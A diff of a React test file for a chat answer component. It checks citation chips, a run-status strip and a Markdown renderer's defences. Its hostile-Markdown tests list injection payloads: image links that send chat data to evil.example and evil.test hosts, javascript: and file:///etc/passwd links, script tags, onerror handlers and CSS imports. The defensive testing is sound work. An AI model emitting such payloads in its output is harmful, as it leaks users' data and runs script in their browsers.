@@ -1,191 +1,191 @@
 // @vitest-environment happy-dom
 import { cleanup, screen, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
-import { useState } from 'react';
 import { afterEach, describe, expect, test, vi } from 'vitest';
-import type { OnSelect } from '@/components/trace/selection';
 import { answeredLog, contextLog, startedLog } from '@/components/trace/testing/fixture-run';
 import { renderPage } from '@/components/trace/testing/render-page';
 import { resolveCitations } from '@/lib/domain/citation-resolve';
+import type { RunEventPayload } from '@/lib/domain/run-event';
 import type { RunView } from '@/lib/domain/run-view';
 import { Answer } from './answer';
 
 afterEach(cleanup);
 
-/** An answer whose highlighted record is held above it, as the chat does. */
-function Held({
-  view,
-  onSelect,
-  onHover,
-}: {
-  view: RunView;
-  onSelect: OnSelect;
-  onHover: (key: string | null) => void;
-}) {
-  const [highlighted, setHighlighted] = useState<string | null>(null);
-  const hover = (record: string | null) => {
-    onHover(record);
-    setHighlighted(record);
-  };
-  return <Answer view={view} onSelect={onSelect} highlightedRecord={highlighted} onHoverRecord={hover} />;
+const usage = { modelCalls: 0, inputTokens: 0, outputTokens: 0, costUsd: 0 };
+
+/** A run that wrote this text and ended like this; without an end it is still writing. */
+function viewOf(
+  text: string,
+  {
+    method = 'model',
+    end,
+  }: { method?: 'model' | 'rule' | 'message'; end?: Partial<Extract<RunEventPayload, { type: 'run-end' }>> } = {},
+): RunView {
+  const log = contextLog().at(50, { type: 'answer-start', method }, { type: 'answer-delta', text });
+  if (!end) return log.view();
+  const { sections } = log.view();
+  return log
+    .at(60, { type: 'answer-end', text, citations: resolveCitations(text, sections) })
+    .at(61, { type: 'run-end', status: 'answered', usage, failure: null, ...end })
+    .view();
 }
 
-function show(view: RunView) {
+function show(view: RunView, { highlighted = null }: { highlighted?: string | null } = {}) {
   const onSelect = vi.fn();
-  const onHover = vi.fn();
-  const { container } = renderPage(<Held view={view} onSelect={onSelect} onHover={onHover} />);
-  return { container, onSelect, onHover };
+  const onHoverRecord = vi.fn();
+  const { container } = renderPage(
+    <Answer view={view} onSelect={onSelect} highlightedRecord={highlighted} onHoverRecord={onHoverRecord} />,
+  );
+  return { container, onSelect, onHoverRecord };
 }
 
-function answered(text: string, method: 'model' | 'rule' | 'message' = 'model'): RunView {
-  const view = answeredLog().view();
-  const citations = resolveCitations(text, view.sections);
-  return { ...view, answer: { method, text, citations, complete: true } };
-}
-
-describe('citations', () => {
-  test('a resolved one opens its record in the context tab', async () => {
+describe('the line over the answer', () => {
+  test('each part opens its tab', async () => {
     const view = answeredLog().view();
     const { onSelect } = show(view);
-    await userEvent.click(screen.getByRole('button', { name: 'Citation 1: open Entities 12, 한빛전자' }));
-    expect(onSelect).toHaveBeenCalledWith({
-      run: view.runId,
+    const strip = within(screen.getByRole('list', { name: 'This run in one line' }));
+    await userEvent.click(strip.getByRole('button', { name: 'Relations' }));
+    await userEvent.click(strip.getByRole('button', { name: '2 keywords' }));
+    await userEvent.click(strip.getByRole('button', { name: '3 entities' }));
+    await userEvent.click(strip.getByRole('button', { name: '1.5k tokens' }));
+    await userEvent.click(strip.getByRole('button', { name: '2.32 s' }));
+    expect(onSelect.mock.calls.map(([change]) => change.tab)).toEqual([
+      'route',
+      'route',
+      'context',
+      'context',
+      'trace',
+    ]);
+    expect(onSelect.mock.calls[0]?.[0]).toMatchObject({ run: view.runId, record: null });
+  });
+
+  test('while the run goes on it says the step in plain words and the time so far', () => {
+    show(startedLog().at(1200, { type: 'step-start', spanId: 'retrieve#1', step: 'retrieve', attempt: 1 }).view());
+    expect(screen.getByText('Searching the graph')).toBeTruthy();
+    expect(screen.getByText(/^1\.2\d s$/)).toBeTruthy();
+  });
+});
+
+describe('citations', () => {
+  const text = '가격이 내렸다. 한빛전자는 노출되어 있다 [Data: Entities (12, 99); Relationships (88)].';
+
+  test('a resolved one opens its record, an unresolved one is marked and is no link', async () => {
+    const { onSelect, onHoverRecord, container } = show(viewOf(text, { end: {} }));
+    const [first, unresolved] = within(container).getAllByRole('button', { name: /^Citation/ });
+    expect(container.textContent).not.toContain('[Data');
+    await userEvent.hover(first!);
+    expect(onHoverRecord).toHaveBeenLastCalledWith('entities:entity-12');
+    await userEvent.click(first!);
+    expect(onSelect).toHaveBeenLastCalledWith({
+      run: expect.any(String),
       tab: 'context',
       record: 'entities:entity-12',
       span: null,
     });
-  });
-
-  test('one that is not in the context is marked and opens nothing', async () => {
-    const { onSelect, container } = show(answeredLog().view());
-    const chip = screen.getByRole('button', { name: /Citation 2: Entities 99 is not in this run/ });
-    expect(chip.textContent).toBe('2?');
-    expect(chip.getAttribute('aria-disabled')).toBe('true');
-    await userEvent.click(chip);
+    expect(first?.getAttribute('aria-label')).toBe('Citation 1: open Entities 12, 한빛전자');
+    onSelect.mockClear();
+    await userEvent.click(unresolved!);
     expect(onSelect).not.toHaveBeenCalled();
-    expect(container.querySelector('a')).toBeNull();
+    expect(unresolved?.getAttribute('aria-disabled')).toBe('true');
+    expect(unresolved?.textContent).toBe('2?');
   });
 
-  test('a hovered one names its record and lights its sentence', async () => {
-    const { onHover, container } = show(answeredLog().view());
-    await userEvent.hover(screen.getByRole('button', { name: /Citation 3: open Relationships 88/ }));
-    expect(onHover).toHaveBeenLastCalledWith('relationships:relationship-88');
-    expect(container.querySelector('[data-lit]')?.textContent).toContain('메모리 가격 하락');
-    await userEvent.unhover(screen.getByRole('button', { name: /Citation 3/ }));
-    expect(container.querySelector('[data-lit]')).toBeNull();
+  test('they are numbered and resolved while the answer is still written', () => {
+    const { container } = show(viewOf(text));
+    expect(
+      within(container)
+        .getAllByRole('button', { name: /^Citation/ })
+        .map((chip) => chip.textContent),
+    ).toEqual(['1', '2?', '3']);
   });
 
-  test('they stand in tables and lists, and never in code', () => {
-    const { container } = show(
-      answered(
-        '| 회사 | 근거 |\n| --- | --- |\n| 한빛전자 | [Data: Entities (12)] |\n\n- 위험 [Data: Entities (4)]\n\n`[Data: Entities (12)]`',
-      ),
-    );
-    expect(within(screen.getByRole('table')).getByRole('button', { name: /Citation 1/ })).toBeTruthy();
-    expect(within(container.querySelector('ul')!).getByRole('button', { name: /Citation 2/ })).toBeTruthy();
+  test('half a marker is never shown', () => {
+    const { container } = show(viewOf('한빛전자 [Data: Entities (1'));
+    expect(container.textContent).toContain('한빛전자');
+    expect(container.textContent).not.toContain('[');
+  });
+
+  test('the record under the pointer lights the sentence that cites it, and only that', () => {
+    const { container } = show(viewOf(text, { end: {} }), { highlighted: 'entities:entity-12' });
+    const lit = [...container.querySelectorAll('[data-lit]')].map((sentence) => sentence.textContent);
+    expect(lit).toEqual(['한빛전자는 노출되어 있다']);
+  });
+
+  test('a marker in code stays code', () => {
+    const { container } = show(viewOf('`[Data: Entities (12)]`', { end: {} }));
     expect(container.querySelector('code')?.textContent).toBe('[Data: Entities (12)]');
+    expect(within(container).queryByRole('button', { name: /^Citation/ })).toBeNull();
+  });
+
+  test('an answer cannot write the inner token of a citation itself', () => {
+    const { container } = show(viewOf('\u{f0000}0\u{f0001} [Data: Entities (12)]', { end: {} }));
+    expect(within(container).getAllByRole('button', { name: /^Citation/ })).toHaveLength(1);
   });
 });
 
-/** Elements that load, run or lead somewhere. */
-const loading = 'img, script, iframe, style, link, a, form, input, object, embed, image';
+describe('hostile Markdown', () => {
+  const hostile = [
+    '![secret](http://evil.example/x.png?leak=1)',
+    '[click](https://evil.example/path) [script](javascript:alert(1)) [data](data:text/html,x)',
+    '<img src=x onerror=alert(1)> <script>alert(1)</script> <iframe src="http://evil.example"></iframe>',
+    '<a href="http://evil.example">html</a> https://auto.example/',
+    '[ref]\n\n[ref]: http://evil.example/ref',
+    '<citation-marker markers="0">forged</citation-marker>',
+  ].join('\n\n');
 
-describe('a hostile answer loads nothing and opens nothing', () => {
-  test.each([
-    ['an image', '![secret](https://evil.test/?q=chat)'],
-    ['an image by reference', '![secret][x]\n\n[x]: https://evil.test/?q=chat'],
-    ['an image with a data address', '![x](data:image/svg+xml;base64,AAAA)'],
-    ['a raw image', '<img src="https://evil.test/?q=chat" onerror="alert(1)">'],
-    ['a script', '<script>alert(1)</script>'],
-    ['a frame', '<iframe src="https://evil.test"></iframe>'],
-    ['a style', '<style>@import url(https://evil.test/x.css)</style>'],
-    ['a link in a link', '[![x](https://evil.test/a.png)](https://evil.test)'],
-    ['a script address', '[click](javascript:alert(1))'],
-    ['a plain address', 'see https://evil.test/login'],
-    ['a form', '<form action="https://evil.test"><input name="key"></form>'],
-    ['a background', '<div style="background:url(https://evil.test/x)">x</div>'],
-  ])('%s', (_, text) => {
-    const { container } = show(answered(text));
-    expect(container.querySelector(loading)).toBeNull();
-    const attributes = Array.from(container.querySelectorAll('*'), (element) => Array.from(element.attributes)).flat();
-    const written = attributes.filter(({ name }) => name !== 'aria-label').map(({ name, value }) => `${name}=${value}`);
-    expect(written.filter((attribute) => /^on|evil\.test\/|javascript:|data:image/.test(attribute))).toEqual([]);
+  test('loads nothing, opens nothing and makes no element of its HTML', () => {
+    const { container } = show(viewOf(hostile, { end: {} }));
+    expect(container.querySelectorAll('img, a, script, iframe, form, object, embed, video, audio, style')).toHaveLength(
+      0,
+    );
+    const addresses = [...container.querySelectorAll('p, p *')].flatMap((element) =>
+      element.getAttributeNames().filter((name) => /^(href|src|srcset|action|poster|style|on.*)$/.test(name)),
+    );
+    expect(addresses).toEqual([]);
+    expect(container.textContent).toContain('<script>alert(1)</script>');
+    expect(container.textContent).toContain('Image, not loaded: secret');
   });
 
-  test('an image stands as its words', () => {
-    show(answered('![매출 그래프](https://evil.test/x.png)'));
-    expect(screen.getByText('Image, not loaded: 매출 그래프')).toBeTruthy();
-  });
-
-  test('a link shows where it leads, and opens only from its dialog', async () => {
-    show(answered('[bank](https://bank.example@evil.test/x)'));
-    await userEvent.click(screen.getByRole('button', { name: 'Show where this link leads: evil.test' }));
-    const dialog = screen.getByRole('dialog', { name: 'Where this link leads' });
-    expect(within(dialog).getByText('https://bank.example@evil.test/x')).toBeTruthy();
-    const link = within(dialog).getByRole('link', { name: 'Open in a new tab' });
-    expect(link.getAttribute('rel')).toContain('noopener');
-  });
-
-  test('an address that is no web address can only be copied', async () => {
-    show(answered('[x](javascript:alert(1)) [file](file:///etc/passwd)'));
-    for (const host of ['javascript:', 'file:']) {
-      await userEvent.click(screen.getByRole('button', { name: `Show where this link leads: ${host}` }));
-      expect(within(screen.getByRole('dialog')).queryByRole('link')).toBeNull();
-      await userEvent.keyboard('{Escape}');
-    }
+  test('a link opens only from the dialog that shows its address, and a script address not at all', async () => {
+    show(viewOf('[click](https://evil.example/path?q=1) [script](javascript:alert(1))', { end: {} }));
+    await userEvent.click(screen.getByRole('button', { name: /leads: evil\.example/ }));
+    const dialog = within(await screen.findByRole('dialog'));
+    expect(dialog.getByText('https://evil.example/path?q=1')).toBeTruthy();
+    expect(dialog.getByRole('link', { name: 'Open in a new tab' }).getAttribute('rel')).toBe(
+      'noopener noreferrer nofollow',
+    );
+    await userEvent.click(dialog.getByRole('button', { name: 'Close' }));
+    await userEvent.click(screen.getByRole('button', { name: /leads: javascript:/ }));
+    expect(within(await screen.findByRole('dialog')).queryByRole('link')).toBeNull();
   });
 });
 
-describe('how a run ended is said where the answer stands', () => {
-  test('quoted sentences are not passed off as written ones', () => {
-    show(answered('첫 문장.', 'rule'));
+describe('how it ended', () => {
+  test('a rule-made answer says that no model wrote it', () => {
+    show(viewOf('문장', { method: 'rule', end: {} }));
     expect(screen.getByText(/No model wrote this/)).toBeTruthy();
   });
 
-  test('a stopped run keeps what was written', () => {
-    show({ ...answered('여기까지'), status: 'stopped' });
-    expect(screen.getByText('여기까지')).toBeTruthy();
+  test('a stopped answer keeps its text without half a marker and says so', () => {
+    const { container } = show(viewOf('한빛전자는 [Da', { end: { status: 'stopped' } }));
+    expect(container.textContent).toContain('한빛전자는');
+    expect(container.textContent).not.toContain('[Da');
     expect(screen.getByText('Stopped. What was written so far is kept.')).toBeTruthy();
   });
 
-  test('a failed run alerts with its reason', () => {
-    const failure = { code: 'model-failed', message: '모델이 답을 만들지 못했습니다.', detail: 'HTTP 500' };
-    show({ ...contextLog().view(), status: 'failed', failure });
-    const alert = screen.getByRole('alert');
-    expect(alert.textContent).toContain('모델이 답을 만들지 못했습니다.');
-    expect(alert.textContent).not.toContain('HTTP 500');
+  test('a failure stands where the answer would be, with what to do', () => {
+    const failure = { code: 'model-failed', message: 'The model did not answer.', detail: 'ECONNREFUSED 10.0.0.1' };
+    const { container } = show(viewOf('', { end: { status: 'failed', failure } }));
+    expect(screen.getByRole('alert').textContent).toContain('The model did not answer.');
+    expect(container.textContent).not.toContain('ECONNREFUSED');
   });
 
-  test('a warned run says what to doubt', () => {
-    show({ ...answered('답'), status: 'warned' });
-    expect(screen.getByText('The answer may not be fully supported by its sources.')).toBeTruthy();
-  });
-});
-
-describe('the line over the answer', () => {
-  test('each part opens the tab that explains it', async () => {
-    const view = answeredLog().view();
-    const { onSelect } = show(view);
-    const strip = screen.getByRole('region', { name: 'This run in one line' });
-    for (const [name, tab] of [
-      ['2 keywords', 'route'],
-      ['3 entities', 'context'],
-      ['1.5k tokens', 'context'],
-      ['2.32 s', 'trace'],
-    ]) {
-      await userEvent.click(within(strip).getByRole('button', { name }));
-      expect(onSelect).toHaveBeenLastCalledWith({ run: view.runId, tab, span: null, record: null });
-    }
-  });
-
-  test('a running one says which step is at work', () => {
-    show(contextLog().at(40, { type: 'step-start', spanId: 'generate#1', step: 'generate', attempt: 1 }).view());
-    expect(within(screen.getByRole('region', { name: /one line/ })).getByText('Writing the answer')).toBeTruthy();
-    expect(screen.queryByRole('button', { name: /Copy/ })).toBeNull();
-  });
-
-  test('one that has only begun says so', () => {
-    show(startedLog().view());
-    expect(screen.getByText('Starting')).toBeTruthy();
+  test('tables and Korean emphasis are shown', () => {
+    const { container } = show(
+      viewOf('**가격**이 내렸다.\n\n| 항목 | 값 |\n| --- | ---: |\n| 수주 | 18,400 |', { end: {} }),
+    );
+    expect(container.querySelector('strong')?.textContent).toBe('가격');
+    expect(screen.getByRole('columnheader', { name: '항목' })).toBeTruthy();
+    expect(screen.getByRole('cell', { name: '18,400' })).toBeTruthy();
   });
 });
